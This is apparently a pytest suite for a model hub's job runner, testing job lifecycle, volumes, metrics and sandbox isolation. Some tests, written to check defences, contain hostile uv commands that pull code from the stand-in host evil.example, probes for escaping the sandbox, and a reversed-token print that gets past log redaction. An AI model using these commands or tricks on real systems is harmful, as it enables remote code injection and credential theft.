"""The job runner (jobs/manager.py) end to end: real jobs through the official client (HfApi.run_job,
run_uv_job, inspect_job, fetch_job_logs, cancel_job, wait_for_job, fetch_job_metrics), and what a job must not
be able to do (read the hub's data, reach other ports, see other jobs, keep its token, leak secrets)."""

from __future__ import annotations

import json
import socket
import textwrap
import threading
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
from huggingface_hub import Volume
from huggingface_hub.errors import HfHubHTTPError

from conftest import Hub, start_server

DONE = ("COMPLETED", "ERROR", "CANCELED")


def wait(api: Any, job_id: str, timeout: float = 180, stages: tuple[str, ...] = DONE) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        info = api.inspect_job(job_id=job_id)
        if info.status.stage in stages:
            return info
        if time.monotonic() > deadline:
            raise AssertionError(f"job {job_id} still {info.status.stage}")
        time.sleep(0.3)


def logs(api: Any, job_id: str) -> list[str]:
    return list(api.fetch_job_logs(job_id=job_id))


def py(code: str) -> list[str]:
    return ["python", "-c", textwrap.dedent(code)]


def test_run_job_completes_with_logs(jobs_hub: Hub) -> None:
    api = jobs_hub.api()
    job = api.run_job(image="python:3.12", command=py("import os; print('hello', os.getcwd())"))
    assert job.status.stage in ("SCHEDULING", "RUNNING")
    info = api.wait_for_job(job_id=job.id, timeout=180)
    assert info.status.stage == "COMPLETED", info.status
    lines = logs(api, job.id)
    assert "hello /job" in lines
    assert not any(line.startswith("===== Job started") for line in lines)  # the client drops the banner
    # the log is a file: read back once the job is gone from memory
    raw = (Path(jobs_hub.settings.data_dir) / "jobs" / job.id / "log").read_text()
    assert raw.splitlines()[0].split(" ", 1)[1].startswith("===== Job started at ")


def test_failing_job_is_error_with_exit_code_and_tail(jobs_hub: Hub) -> None:
    api = jobs_hub.api()
    job = api.run_job(image="python:3.12", command=py("import sys; print('boom here'); sys.exit(3)"))
    info = wait(api, job.id)
    assert info.status.stage == "ERROR"
    assert "exit code 3" in info.status.message and "boom here" in info.status.message
    raw = httpx.get(f"{jobs_hub.url}/api/jobs/alice/{job.id}", headers=jobs_hub.auth()).json()
    assert raw["exitCode"] == 3


def test_run_uv_job_with_dependency_and_inline_metadata(jobs_hub: Hub, tmp_path: Path) -> None:
    api = jobs_hub.api()
    script = tmp_path / "with_dep.py"
    script.write_text("import sys, six\nprint('six', six.__name__, sys.argv[1:])\n")
    job = api.run_uv_job(str(script), script_args=["a", "b"], dependencies=["six"])
    info = wait(api, job.id)
    assert info.status.stage == "COMPLETED", (info.status, logs(api, job.id))
    assert "six six ['a', 'b']" in logs(api, job.id)

    inline = tmp_path / "inline.py"
    inline.write_text(
        '# /// script\n# requires-python = ">=3.10"\n# dependencies = ["tomli"]\n# ///\n'
        "import tomli\nprint('parsed', tomli.loads('a = 1')['a'])\n"
    )
    job = api.run_uv_job(str(inline))
    info = wait(api, job.id)
    assert info.status.stage == "COMPLETED", (info.status, logs(api, job.id))
    assert "parsed 1" in logs(api, job.id)


def test_hostile_uv_options_refused(jobs_hub: Hub) -> None:
    api = jobs_hub.api()
    for cmd in (
        ["uv", "run", "--index-url", "http://evil.example/simple", "x.py"],
        ["uv", "run", "--with", "git+https://evil.example/x.git", "x.py"],
        ["uv", "run", "https://evil.example/x.py"],
    ):
        with pytest.raises(HfHubHTTPError) as e:
            api.run_job(image="ghcr.io/astral-sh/uv:python3.12-bookworm", command=cmd)
        assert e.value.response.status_code == 400


def test_inline_hostile_dependency_is_error(jobs_hub: Hub, tmp_path: Path) -> None:
    api = jobs_hub.api()
    script = tmp_path / "hostile.py"
    script.write_text('# /// script\n# dependencies = ["--index-url=http://evil.example"]\n# ///\nprint(1)\n')
    job = api.run_uv_job(str(script))
    info = wait(api, job.id)
    assert info.status.stage == "ERROR"
    assert "refused" in info.status.message


def test_cancel_stops_a_running_job(jobs_hub: Hub) -> None:
    api = jobs_hub.api()
    job = api.run_job(
        image="python:3.12", command=py("import time\nprint('started', flush=True)\ntime.sleep(300)")
    )
    wait(api, job.id, stages=("RUNNING",))
    deadline = time.monotonic() + 60
    while "started" not in logs(api, job.id) and time.monotonic() < deadline:
        time.sleep(0.3)
    started = time.monotonic()
    api.cancel_job(job_id=job.id)
    info = wait(api, job.id, timeout=30)
    assert info.status.stage == "CANCELED"
    assert time.monotonic() - started < 20
    api.cancel_job(job_id=job.id)  # a finished job's stage never changes
    assert api.inspect_job(job_id=job.id).status.stage == "CANCELED"


def test_timeout_is_error(jobs_hub: Hub) -> None:
    api = jobs_hub.api()
    job = api.run_job(image="python:3.12", command=py("import time; time.sleep(120)"), timeout=2)
    info = wait(api, job.id, timeout=120)
    assert info.status.stage == "ERROR"
    assert "timed out after 2 s" in info.status.message


def test_token_secrets_and_env(jobs_hub: Hub) -> None:
    """The job's HF_TOKEN works while it runs (as alice), is never in the log, and is revoked at the end;
    secret values are redacted from the log."""
    api = jobs_hub.api()
    code = """
        import json, os, urllib.request
        tok = os.environ["HF_TOKEN"]
        req = urllib.request.Request(os.environ["HF_ENDPOINT"] + "/api/whoami-v2",
                                     headers={"authorization": "Bearer " + tok})
        print("whoami", json.load(urllib.request.urlopen(req))["name"])
        print("reversed", tok[::-1])
        print("token", tok)
        print("secret", os.environ["MY_SECRET"], "env", os.environ["PLAIN"], os.environ["JOB_ID"])
        print("jobdir", os.environ["MODELYARD_JOB_DIR"])
    """
    job = api.run_job(
        image="python:3.12", command=py(code), env={"PLAIN": "visible"}, secrets={"MY_SECRET": "s3cr3t-value"}
    )
    info = wait(api, job.id)
    lines = logs(api, job.id)
    assert info.status.stage == "COMPLETED", (info.status, lines)
    assert "whoami alice" in lines
    assert f"secret *** env visible {job.id}" in lines
    assert "token ***" in lines
    assert "jobdir /job" in lines
    assert not any("s3cr3t-value" in line for line in lines)
    token = next(line.split(" ", 1)[1] for line in lines if line.startswith("reversed "))[::-1]
    assert token.startswith("hf_")
    r = httpx.get(f"{jobs_hub.url}/api/whoami-v2", headers={"authorization": f"Bearer {token}"})
    assert r.status_code == 401
    raw = (Path(jobs_hub.settings.data_dir) / "jobs" / job.id / "log").read_text()
    assert "s3cr3t-value" not in raw and f"token {token}" not in raw


def test_job_cannot_read_hub_data_or_reach_other_ports(jobs_hub: Hub) -> None:
    api = jobs_hub.api()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    accepted: list[bool] = []

    def accept() -> None:
        listener.settimeout(60)
        try:
            conn, _ = listener.accept()
            accepted.append(True)
            conn.close()
        except OSError:
            pass

    threading.Thread(target=accept, daemon=True).start()
    port = listener.getsockname()[1]
    data_dir = str(jobs_hub.settings.data_dir)
    code = f"""
        import os, socket
        for path in [{data_dir!r}, {data_dir + "/jobs"!r}, "/root", "/work"]:
            try:
                print("listed", path, len(os.listdir(path)))
            except OSError as e:
                print("denied", path)
        s = socket.socket()
        s.settimeout(3)
        try:
            s.connect(("127.0.0.1", {port}))
            print("connected")
        except OSError:
            print("refused")
        try:
            socket.create_connection(("1.1.1.1", 80), timeout=3)
            print("internet")
        except OSError:
            print("no internet")
        open("/job/mine.txt", "w").write("x")
        print("wrote /job")
    """
    job = api.run_job(image="python:3.12", command=py(code))
    info = wait(api, job.id)
    lines = logs(api, job.id)
    listener.close()
    assert info.status.stage == "COMPLETED", (info.status, lines)
    assert f"denied {data_dir}" in lines and f"denied {data_dir}/jobs" in lines, lines
    assert "refused" in lines and not accepted
    assert "no internet" in lines
    assert "wrote /job" in lines
    # another job does not see the first one's /job
    other = api.run_job(
        image="python:3.12", command=py("import os; print('files', sorted(os.listdir('/job')))")
    )
    wait(api, other.id)
    assert "files []" in logs(api, other.id)


def test_volumes_repo_mount_and_foreign_private_refused(jobs_hub: Hub, tmp_path: Path) -> None:
    alice = jobs_hub.api()
    alice.create_repo("alice/job-data", exist_ok=True)
    alice.upload_file(path_or_fileobj=b"mounted!", path_in_repo="sub/hello.txt", repo_id="alice/job-data")
    job = alice.run_job(
        image="python:3.12",
        command=py("print('read', open('/models/sub/hello.txt').read())"),
        volumes=[Volume(type="model", source="alice/job-data", mount_path="/models")],
    )
    info = wait(alice, job.id)
    assert info.status.stage == "COMPLETED", (info.status, logs(alice, job.id))
    assert "read mounted!" in logs(alice, job.id)

    bob = jobs_hub.api(jobs_hub.bob)
    bob.create_repo("bob/private-stuff", private=True, exist_ok=True)
    with pytest.raises(HfHubHTTPError) as e:
        alice.run_job(
            image="python:3.12",
            command=py("print(1)"),
            volumes=[Volume(type="model", source="bob/private-stuff", mount_path="/m")],
        )
    assert e.value.response.status_code in (403, 404)


def test_progress_lines_and_metrics(jobs_hub: Hub) -> None:
    api = jobs_hub.api()
    code = """
        import json, time
        print("before", flush=True)
        for step in (1, 2):
            print("MODELYARD_PROGRESS " + json.dumps({"step": step, "max_steps": 2, "loss": 1.0 / step}), flush=True)
        x = 0
        end = time.time() + 4
        while time.time() < end:
            x += 1
        print("after", flush=True)
    """
    job = api.run_job(image="python:3.12", command=py(code))
    wait(api, job.id, stages=("RUNNING", *DONE))
    samples: list[dict[str, Any]] = []
    deadline = time.monotonic() + 60
    while not samples and time.monotonic() < deadline:
        try:
            for sample in api.fetch_job_metrics(job_id=job.id):
                samples.append(sample)
                break
        except HfHubHTTPError:
            pass
        if not samples:
            time.sleep(0.3)
    info = wait(api, job.id)
    assert info.status.stage == "COMPLETED"
    assert samples and {"cpu_usage_pct", "memory_used_bytes", "memory_total_bytes"} <= set(samples[0])
    lines = logs(api, job.id)
    assert "before" in lines and "after" in lines
    assert not any("MODELYARD_PROGRESS" in line for line in lines)
    raw = httpx.get(f"{jobs_hub.url}/api/jobs/alice/{job.id}", headers=jobs_hub.auth()).json()
    assert raw["status"]["progress"] == {"step": 2, "max_steps": 2, "loss": 0.5}
    progress = (Path(jobs_hub.settings.data_dir) / "jobs" / job.id / "progress").read_text().splitlines()
    assert [json.loads(p.split(" ", 1)[1])["step"] for p in progress] == [1, 2]


def test_train_image_runs_in_the_hub_environment(jobs_hub: Hub) -> None:
    api = jobs_hub.api()
    code = "import modelyard, transformers; print('hub env', modelyard.__name__, open('/job/x', 'w').write('ok'))"
    job = api.run_job(image="modelyard/train", command=["python", "-c", code])
    info = wait(api, job.id)
    assert info.status.stage == "COMPLETED", (info.status, logs(api, job.id))
    assert "hub env modelyard 2" in logs(api, job.id)


def test_restart_marks_running_job_error(tmp_path: Path) -> None:
    data = tmp_path / "hub"
    with start_server(data, jobs=True) as hub:
        api = hub.api()
        job = api.run_job(
            image="python:3.12", command=py("import time\nprint('up', flush=True)\ntime.sleep(300)")
        )
        wait(api, job.id, stages=("RUNNING",))
        deadline = time.monotonic() + 60
        while "up" not in logs(api, job.id) and time.monotonic() < deadline:
            time.sleep(0.3)
    # a crash (no clean stop) leaves jobs RUNNING: a plain job is ERROR at the next start, a training job is
    # queued again and resumes (MODELYARD_RESUME=1, same /job directory)
    store = hub.services.jobs
    alice_id = hub.services.accounts.get("alice").id
    crashed = store.create(
        "c" * 24,
        alice_id,
        alice_id,
        "write",
        None,
        {"dockerImage": "python:3.12", "command": ["python", "-c", "print(1)"]},
        {},
    )
    store.set_stage(crashed.id, "RUNNING", started=True)
    train_cmd = (
        "import os, json; print('resume', os.environ.get('MODELYARD_RESUME'), open('/job/ckpt').read()); "
        "json.dump({'repo': 'alice/m', 'metrics': {'accuracy': 1.0}}, open('/job/result.json', 'w'))"
    )
    training = store.create(
        "d" * 24,
        alice_id,
        alice_id,
        "write",
        None,
        {"dockerImage": "modelyard/train", "command": ["python", "-c", train_cmd]},
        {},
        kind="training",
    )
    store.set_stage(training.id, "RUNNING", started=True)
    work = data / "jobs" / training.id / "work"
    work.mkdir(parents=True)
    (work / "ckpt").write_text("step-7")
    with start_server(data, jobs=True) as hub2:
        api = hub2.api()
        info = api.inspect_job(job_id=job.id)
        assert info.status.stage == "ERROR"
        assert "hub" in info.status.message.lower()
        assert "up" in logs(api, job.id)
        info = api.inspect_job(job_id=crashed.id)
        assert info.status.stage == "ERROR"
        assert info.status.message == "The hub restarted while the job was running."
        info = wait(api, training.id)
        assert info.status.stage == "COMPLETED", (info.status, logs(api, training.id))
        assert "resume 1 step-7" in logs(api, training.id)
        raw = httpx.get(f"{hub2.url}/api/jobs/alice/{training.id}", headers=hub2.auth()).json()
        assert raw["kind"] == "training"
        assert raw["result"] == {"repo": "alice/m", "metrics": {"accuracy": 1.0}}


def test_bucket_volume_read_write_and_write_back(jobs_hub: Hub) -> None:
    alice = jobs_hub.api()
    alice.create_bucket("alice/job-bucket", exist_ok=True, private=True)
    alice.batch_bucket_files("alice/job-bucket", add=[(b"input data", "in/data.txt")])
    code = """
        print("got", open("/vol/in/data.txt").read())
        open("/vol/out.txt", "w").write("written by the job")
        open("/vol/in/data.txt", "w").write("changed")
    """
    job = alice.run_job(
        image="python:3.12",
        command=py(code),
        volumes=[Volume(type="bucket", source="alice/job-bucket", mount_path="/vol", read_only=False)],
    )
    info = wait(alice, job.id)
    assert info.status.stage == "COMPLETED", (info.status, logs(alice, job.id))
    assert "got input data" in logs(alice, job.id)
    paths = {f.path for f in alice.list_bucket_tree("alice/job-bucket", recursive=True)}
    assert {"in/data.txt", "out.txt"} <= paths, paths
    meta = alice.get_bucket_paths_info("alice/job-bucket", ["out.txt", "in/data.txt"])
    sizes = {m.path: m.size for m in meta}
    assert sizes == {"out.txt": len("written by the job"), "in/data.txt": len("changed")}

    # bob may not mount alice's private bucket, read-only or not
    bob = jobs_hub.api(jobs_hub.bob)
    for read_only in (True, False):
        with pytest.raises(HfHubHTTPError) as e:
            bob.run_job(
                image="python:3.12",
                command=py("print(1)"),
                volumes=[
                    Volume(type="bucket", source="alice/job-bucket", mount_path="/v", read_only=read_only)
                ],
            )
        assert e.value.response.status_code in (403, 404)
    # alice's read token may not mount her bucket read-write (nor submit at all)
    with pytest.raises(HfHubHTTPError) as e:
        jobs_hub.api(jobs_hub.alice_read).run_job(
            image="python:3.12",
            command=py("print(1)"),
            volumes=[Volume(type="bucket", source="alice/job-bucket", mount_path="/v", read_only=False)],
        )
    assert e.value.response.status_code in (401, 403)


def test_queue_holds_at_most_max_running_and_cancel_takes_a_queued_job_off(jobs_hub: Hub) -> None:
    api = jobs_hub.api()
    sleeper = py("import time\nprint('sleeping', flush=True)\ntime.sleep(300)")
    running = [api.run_job(image="python:3.12", command=sleeper) for _ in range(2)]
    for job in running:
        wait(api, job.id, stages=("RUNNING",))
    queued = api.run_job(image="python:3.12", command=py("print('never')"))
    time.sleep(2)
    assert api.inspect_job(job_id=queued.id).status.stage == "SCHEDULING"  # jobs_max_running=2
    api.cancel_job(job_id=queued.id)
    assert wait(api, queued.id, timeout=30).status.stage == "CANCELED"
    for job in running:
        api.cancel_job(job_id=job.id)
    for job in running:
        assert wait(api, job.id, timeout=30).status.stage == "CANCELED"
    assert "never" not in logs(api, queued.id)
    # the slots are free again
    after = api.run_job(image="python:3.12", command=py("print('next')"))
    assert wait(api, after.id).status.stage == "COMPLETED"


def test_sandbox_none_and_a_refused_sandbox(tmp_path: Path) -> None:
    with start_server(tmp_path / "none", jobs=True, jobs_sandbox="none") as hub:
        api = hub.api()
        job = api.run_job(
            image="python:3.12",
            command=py("import os; print('dir', os.environ['MODELYARD_JOB_DIR'] == os.getcwd())"),
        )
        info = wait(api, job.id)
        assert info.status.stage == "COMPLETED", (info.status, logs(api, job.id))
        assert "dir True" in logs(api, job.id)
        raw = (Path(hub.settings.data_dir) / "jobs" / job.id / "log").read_text()
        assert "Sandbox: NONE" in raw
    with start_server(tmp_path / "bad", jobs=True, jobs_sandbox="chroot") as hub:
        api = hub.api()
        job = api.run_job(image="python:3.12", command=py("print('ran')"))
        info = wait(api, job.id)
        assert info.status.stage == "ERROR"
        assert "jobs_sandbox" in info.status.message
        assert "ran" not in logs(api, job.id)


def test_uv_script_url_of_this_hub(jobs_hub: Hub) -> None:
    """A script URL of the hub itself is fetched by the hub with the job's token (a private repo works)."""
    api = jobs_hub.api()
    api.create_repo("alice/job-scripts", private=True, exist_ok=True)
    script = (
        b'# /// script\n# dependencies = ["six"]\n# ///\nimport sys, six\nprint("from url", sys.argv[1])\n'
    )
    api.upload_file(path_or_fileobj=script, path_in_repo="s.py", repo_id="alice/job-scripts")
    job = api.run_uv_job(f"{jobs_hub.url}/alice/job-scripts/resolve/main/s.py", script_args=["arg1"])
    info = wait(api, job.id)
    assert info.status.stage == "COMPLETED", (info.status, logs(api, job.id))
    assert "from url arg1" in logs(api, job.id)


def test_memory_limit_is_enforced(tmp_path: Path) -> None:
    with start_server(tmp_path / "mem", jobs=True, jobs_memory_mb=256) as hub:
        api = hub.api()
        code = "x = bytearray(1024 * 1024 * 1024)\nprint('allocated', len(x))"
        job = api.run_job(image="python:3.12", command=py(code))
        info = wait(api, job.id)
        assert info.status.stage == "ERROR", (info.status, logs(api, job.id))
        assert "allocated" not in logs(api, job.id)
        assert "memory" in info.status.message.lower() or "MemoryError" in info.status.message
